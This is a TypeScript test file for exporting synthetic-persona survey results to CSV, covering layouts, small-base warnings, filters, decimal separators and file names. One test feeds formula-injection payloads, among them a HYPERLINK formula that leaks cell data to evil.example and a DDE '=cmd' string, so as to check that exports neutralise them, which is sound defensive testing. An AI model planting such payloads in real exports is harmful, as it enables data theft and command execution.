import papaparse from 'papaparse'
import { describe, expect, it } from 'vitest'
import { exportFileName } from '../../../electron/core/exports/file-name.ts'
import { filterNameParts, filterParts } from '../../../electron/core/exports/filter-parts.ts'
import { resultsCsv } from '../../../electron/core/exports/results-csv.ts'
import { toCsv } from '../../../shared/exchange/tables/csv.ts'
import { unquoteCell } from '../../../shared/exchange/tables/formula-text.ts'
import { csvFormOf } from '../../../shared/models/csv-form.ts'
import type { SurveyDraft } from '../../../shared/models/draft.ts'
import { NO_FILTER, type ResultsFilter } from '../../../shared/models/results-filter.ts'
import { RESULTS_LAYOUTS, type ResultsLayout } from '../../../shared/models/results-layout.ts'
import { aRun } from '../../support/a-run.ts'
import { resultsOf } from '../../support/results-of.ts'

const draft: SurveyDraft = {
  title: 'Mobilité',
  context: '',
  personas: 3,
  audience: { ageRanges: [], sex: null },
  dismissals: [],
  questions: [
    {
      id: 'q1',
      stem: 'Prenez-vous le train ?',
      type: 'single_choice',
      options: [
        { id: 'a', text: 'Oui' },
        { id: 'b', text: 'Non' },
      ],
    },
    { id: 'q2', stem: 'Pourquoi ?', type: 'open_ended', options: [] },
  ],
}

const results = resultsOf({
  respondents: [
    { id: 'p1', attributes: [{ name: 'age', value: '34' }] },
    { id: 'p2', attributes: [] },
    { id: null, attributes: [{ name: 'sexe', value: 'femme' }] },
  ],
  answers: [
    { respondent: 0, question: 0, kind: 'option', option: 0, text: null },
    { respondent: 1, question: 0, kind: 'blank', option: null, text: null },
    { respondent: 0, question: 1, kind: 'text', option: null, text: '=HYPERLINK("http://x")' },
    { respondent: 2, question: 1, kind: 'unread', option: null, text: '{"x":1}' },
  ],
})

const parse = (text: string) =>
  papaparse.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true })

const noTags = () => null

describe('results as CSV', () => {
  const run = aRun({ practice: true })

  it('has a row a persona and a column an item', () => {
    const { data, meta } = parse(resultsCsv({ run, draft, results, filter: NO_FILTER }, 'respondents', 'fr'))
    expect(meta.fields?.slice(0, 5)).toEqual([
      'persona',
      'Âge',
      'Sexe',
      '1. Prenez-vous le train ?',
      '2. Pourquoi ?',
    ])
    expect(data).toHaveLength(3)
    expect(data[0]?.['1. Prenez-vous le train ?']).toBe('Oui')
    expect(data[2]?.persona).toBe('3')
  })

  it('has a row an answer, with blanks and what was not understood told apart', () => {
    const { data } = parse(resultsCsv({ run, draft, results, filter: NO_FILTER }, 'long', 'en'))
    expect(data.map((row) => row.status)).toEqual(['answered', 'left blank', 'answered', 'not recognised'])
  })

  it('prints counts with their base, and what is missing beside', () => {
    const { data } = parse(resultsCsv({ run, draft, results, filter: NO_FILTER }, 'counts', 'en'))
    expect(data.map((row) => [row['response option'], row.count, row.base, row.percentage])).toEqual([
      ['Oui', '1', '1', ''],
      ['Non', '0', '1', ''],
      ['left blank', '1', '1', ''],
      ['not recognised', '0', '1', ''],
      ['missing', '1', '1', ''],
    ])
  })

  it('says in every row how many personas were asked for, and that the run failed', () => {
    const failed = aRun({ state: 'failed', personas: 40, respondents: 3 })
    const told = { 'personas kept': '3', 'personas received': '3', 'personas requested': '40' }
    for (const layout of RESULTS_LAYOUTS) {
      const { data } = parse(resultsCsv({ run: failed, draft, results, filter: NO_FILTER }, layout, 'en'))
      expect(data.length).toBeGreaterThan(0)
      for (const row of data) expect(row).toMatchObject({ ...told, 'run state': 'failed' })
    }
  })

  it('withholds percentages on a base under 30, as the screen does, and says so', () => {
    const of = (counts: number[]) =>
      parse(
        resultsCsv(
          { run, draft, results: resultsOf({ counts: [{ question: 0, counts }] }), filter: NO_FILTER },
          'counts',
          'en',
        ),
      ).data.map(({ percentage, note }) => [percentage, note])
    const why = 'no percentage: base under 30'
    expect(of([14, 15]).slice(0, 2)).toEqual([
      ['', why],
      ['', why],
    ])
    expect(of([15, 15]).slice(0, 3)).toEqual([
      ['50', 'small base: fewer than 100'],
      ['50', 'small base: fewer than 100'],
      ['', ''],
    ])
  })

  it('says in every row that the personas are synthetic, and practice where they are', () => {
    for (const layout of RESULTS_LAYOUTS) {
      const { data } = parse(resultsCsv({ run, draft, results, filter: NO_FILTER }, layout, 'en'))
      for (const row of data) {
        expect(row.source).toBe('synthetic personas (practice)')
        expect(row.notice).toContain('no margin of error')
      }
    }
  })

  it('holds two answers of a persona to one item both where they disagree', () => {
    const again = { respondent: 0, question: 0, kind: 'option', option: 1, text: null } as const
    const twice = { ...results, answers: [...results.answers, again, again] }
    const { data } = parse(resultsCsv({ run, draft, results: twice, filter: NO_FILTER }, 'respondents', 'en'))
    expect(data[0]?.['1. Prenez-vous le train ?']).toBe('Oui | Non')
  })

  it('gives a spreadsheet nothing to run', () => {
    expect(resultsCsv({ run, draft, results, filter: NO_FILTER }, 'long', 'en')).toContain(`"'=HYPERLINK`)
    expect(toCsv(['a'], [['+1'], ['@x'], ['-2+3']])).toMatch(/'\+1[\s\S]*'@x[\s\S]*'-2/)
  })

  it('gives none either where the text has lines, or where semicolons or tabs separate the cells', () => {
    const texts = [
      '=HYPERLINK("http://evil.example/?"&A2,"voir")\nRien d’autre.',
      'Rien d’autre.\r\n=1+1',
      "bof;=cmd|' /C calc'!A0;rien",
      'bof; "=1+1',
      'bof\t@SUM(1)',
      ' \u00a0=1+1',
      '＝1+1',
      '\t=1',
    ]
    const csv = toCsv(texts, [texts])
    for (const delimiter of [',', ';', '\t']) {
      const cells = papaparse.parse<string[]>(csv.slice(1), { delimiter }).data.flat()
      expect(cells.filter((cell) => /^[\s"]*[=+\-@＝＋－＠]|^[\t\r]/.test(cell))).toEqual([])
    }
    const { data } = papaparse.parse<string[]>(csv.slice(1))
    expect(data[1]?.map(unquoteCell)).toEqual(texts)
  })

  it('gives none where semicolons separate the cells, whatever opens the file', () => {
    const texts = ['bof,=1+1', 'a;b,@SUM(1)', '=1+1', 'bof, "-2+3']
    const csv = toCsv(texts, [texts], 'semicolon')
    for (const delimiter of [',', ';', '\t']) {
      const cells = papaparse.parse<string[]>(csv.slice(1), { delimiter }).data.flat()
      expect(cells.filter((cell) => /^[\s"]*[=+\-@]/.test(cell))).toEqual([])
    }
  })

  it('has semicolons and decimal commas where the spreadsheet expects them', () => {
    expect(
      toCsv(
        ['part', 'mot'],
        [
          [12.5, 'a;b'],
          [3, 'a,b'],
          [null, ''],
        ],
        'semicolon',
      ),
    ).toBe('\uFEFFpart;mot\r\n12,5;"a;b"\r\n3;a,b\r\n;\r\n')
    const thirds = resultsOf({ counts: [{ question: 0, counts: [10, 20] }], shape: 'counts' })
    const text = resultsCsv({ run, draft, results: thirds, filter: NO_FILTER }, 'counts', 'fr', 'semicolon')
    expect(text).toContain(';Oui;10;30;33,3;')
    expect(csvFormOf('language', 'fr')).toBe('semicolon')
    expect(csvFormOf('language', 'en')).toBe('comma')
    expect(csvFormOf('comma', 'fr')).toBe('comma')
  })

  it('has decimals of profiles with the decimal sign of the file, and what only looks like one as it came', () => {
    const values = ['1.5', '-0.25', '1.50', '12', '1.2.3']
    const respondents = values.map((value) => ({ id: null, attributes: [{ name: 'mesure', value }] }))
    const input = { run, draft, results: resultsOf({ respondents }), filter: NO_FILTER }
    const told = (form: 'comma' | 'semicolon') =>
      parse(resultsCsv(input, 'respondents', 'fr', form)).data.map(({ mesure }) => mesure)
    expect(told('semicolon')).toEqual(['1,5', '-0,25', '1.50', '12', '1.2.3'])
    expect(told('comma')).toEqual(values)
  })

  it('keeps numbers as numbers, negative ones too', () => {
    expect(toCsv(['score'], [[-2], ['-0.5'], ['-1,5'], [3]])).toBe(
      '\uFEFFscore\r\n-2\r\n-0.5\r\n"-1,5"\r\n3\r\n',
    )
  })
})

describe('what is exported is what is shown', () => {
  const run = aRun({ practice: true })
  const women: ResultsFilter = {
    search: '',
    groups: [[{ kind: 'field', name: 'sexe', values: ['femme'], not: false }]],
  }
  const csv = (filter: ResultsFilter, layout: ResultsLayout, all = results) =>
    parse(resultsCsv({ run, draft, results: all, filter }, layout, 'en')).data

  it('holds only the personas of the group, and says in every row which and how many of how many', () => {
    expect(csv(women, 'respondents').map(({ persona }) => persona)).toEqual(['3'])
    expect(csv(women, 'long').map(({ persona }) => persona)).toEqual(['3'])
    expect(csv(women, 'counts').map((row) => row.base)).toEqual(['0', '0', '0', '0', '0'])
    for (const layout of RESULTS_LAYOUTS) {
      for (const row of csv(women, layout)) {
        const filter = layout.startsWith('code') ? 'sexe = femme' : 'Sex = female'
        expect(row).toMatchObject({ filter, 'personas kept': '1', 'personas received': '3' })
      }
    }
  })

  it('holds only the answers with the words searched for, and whoever gave one; counts are not searched', () => {
    const oui: ResultsFilter = { search: ' OUI', groups: [] }
    const told = { filter: 'answers containing “OUI”', 'personas kept': '1', 'personas received': '3' }
    expect(csv(oui, 'respondents')).toMatchObject([{ persona: 'p1', ...told }])
    expect(csv(oui, 'long')).toMatchObject([{ answer: 'Oui', ...told }])
    expect(csv(oui, 'counts')[0]).toMatchObject({ base: '1', filter: 'no filter: all personas' })
  })

  it('says every condition, joined as it was asked, in the file and in its name', () => {
    const filter: ResultsFilter = {
      search: '',
      groups: [
        [
          { kind: 'number', name: 'age', min: 25, below: 35, not: false },
          { kind: 'answer', item: 0, options: [1], without: ['blank'], not: true },
        ],
        [{ kind: 'words', item: null, text: 'train', not: false }],
      ],
    }
    expect(filterParts(filter, 'counts', 'en', noTags)).toEqual([
      '25 ≤ Age < 35 or not (item 1 = response option 2 / left blank)',
      'any answer contains “train”',
    ])
    expect(filterParts(filter, 'counts', 'fr', noTags)[1]).toBe('une réponse contient « train »')
    expect(filterNameParts(filter, 'counts', 'en', noTags)).toEqual(['filtered', '3 conditions'])
    expect(filterNameParts(women, 'long', 'fr', noTags)).toEqual(['filtre', 'femme'])
  })

  it('leaves empty the answers of a persona that have none of the words searched for', () => {
    const one: ResultsFilter = { search: 'oui', groups: [] }
    const [row] = csv(one, 'respondents')
    expect([row?.['1. Prenez-vous le train ?'], row?.['2. Pourquoi ?']]).toEqual(['Oui', ''])
  })

  it('says in every row how sure the reading is', () => {
    for (const layout of RESULTS_LAYOUTS) {
      for (const row of csv(NO_FILTER, layout)) expect(row.reading).toBe('certain (known format)')
      for (const row of csv(NO_FILTER, layout, { ...results, certainty: 'unsure' }))
        expect(row.reading).toBe('uncertain (compare with the data received)')
    }
  })

  it('says in every row that it holds everybody where nothing is filtered', () => {
    for (const row of csv(NO_FILTER, 'long')) {
      expect(row).toMatchObject({
        filter: 'no filter: all personas',
        'personas kept': '3',
        'personas received': '3',
      })
    }
  })

  it('gives no count of a group where only ready-made counts came', () => {
    const ready = { ...results, respondents: [], answers: [], counts: [{ question: 0, counts: [4, 6] }] }
    expect(csv(NO_FILTER, 'counts', ready)[0]).toMatchObject({ count: '4', 'personas received': 'unknown' })
    expect(csv(women, 'counts', ready)[0]).toMatchObject({ count: 'unknown', base: 'unknown' })
  })
})

describe('the name of an exported file', () => {
  it('is plain on every system and says what the data is', () => {
    const name = exportFileName('  Été / "mobilité" : œufs? ', 'results', 'csv', { practice: true, at: 0 })
    expect(name).toBe('ete-mobilite-oeufs-results-practice-synthetic-1970-01-01.csv')
  })

  it('tells the files of two versions of a survey apart', () => {
    const [one, two] = [1, 2].map((version) =>
      exportFileName('Été', 'results', 'sav', { practice: false, at: 0, version }),
    )
    expect(one).toBe('ete-v1-results-synthetic-1970-01-01.sav')
    expect(two).toBe('ete-v2-results-synthetic-1970-01-01.sav')
  })

  it('says what the file was narrowed to', () => {
    const filter = ['filtered', '25–34 ans / élève', 'search', '???']
    expect(exportFileName('Été', 'results', 'csv', { practice: false, at: 0, filter })).toBe(
      'ete-results-filtered-25-34-ans-eleve-search-synthetic-1970-01-01.csv',
    )
  })

  it('is in the language of the person', () => {
    const facts = { practice: true, at: 0, language: 'fr' } as const
    expect(exportFileName('Été', 'resultats', 'csv', facts)).toBe(
      'ete-resultats-entrainement-synthetique-1970-01-01.csv',
    )
  })

  it('is there even when the title has no letter', () => {
    expect(exportFileName('???', 'results', 'csv', { practice: false, at: 0 })).toBe(
      'sonde-results-synthetic-1970-01-01.csv',
    )
  })
})
